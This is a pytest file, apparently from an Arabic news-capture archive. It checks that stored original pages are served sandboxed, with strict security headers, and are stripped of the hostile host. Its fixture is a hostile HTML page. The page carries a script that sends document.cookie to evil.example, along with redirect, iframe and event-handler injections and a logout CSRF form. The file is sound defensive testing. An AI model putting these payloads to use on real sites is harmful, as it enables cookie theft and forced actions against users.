"""The original of a report is looked at, and can do nothing."""

from pathlib import Path

import pytest
from tests.desk.conftest import Caller

from tawthiq.desk.opened import register_for
from tawthiq.desk.people.accounts import Account
from tawthiq.workflow.registers.working import hand_in

PAGE = """<!doctype html><html lang="ar" dir="rtl"><head><title>خبر</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); body{background:url(//evil.example/c)}</style>
<script>document.title="broken"; fetch("https://evil.example/" + document.cookie)</script>
</head><body onload="document.title='broken'"><h1>قصف على قرية مخترعة</h1>
<p style="background:url(//evil.example/d)">قُتل مدنيان.</p>
<img src="https://evil.example/e.png" onerror="document.title='broken'">
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<form action="/logout/" method="post"><button autofocus>x</button></form>
<a href="javascript:document.title='broken'">y</a><svg onload="document.title='broken'"/>
</body></html>"""
"""Invented."""


def handed_in(role: str) -> str:
    opened = register_for(Account.objects.get(username=role))
    job = hand_in(opened, PAGE.encode(), name="page.html", said={})
    return job.told["digest"]


@pytest.mark.parametrize("what", ["page", "file"])
def test_an_original_is_sealed_off(
    client_as: type[Caller], register: Path, what: str
) -> None:
    assert register.is_dir()
    answer = client_as("coder").get(f"/captures/{handed_in('coder')}/{what}/")
    policy = answer["Content-Security-Policy"]
    assert policy.startswith("sandbox; default-src 'none';")
    assert "allow-" not in policy  # an origin of its own, and nothing runs
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
    assert answer["Cross-Origin-Opener-Policy"] == "same-origin"
    assert answer["Referrer-Policy"] == "no-referrer"
    assert "no-store" in answer["Cache-Control"]
    if what == "file":
        assert answer["Content-Type"] == "application/octet-stream"
        assert answer["Content-Disposition"].startswith("attachment")
    else:
        assert "evil.example" not in answer.content.decode()
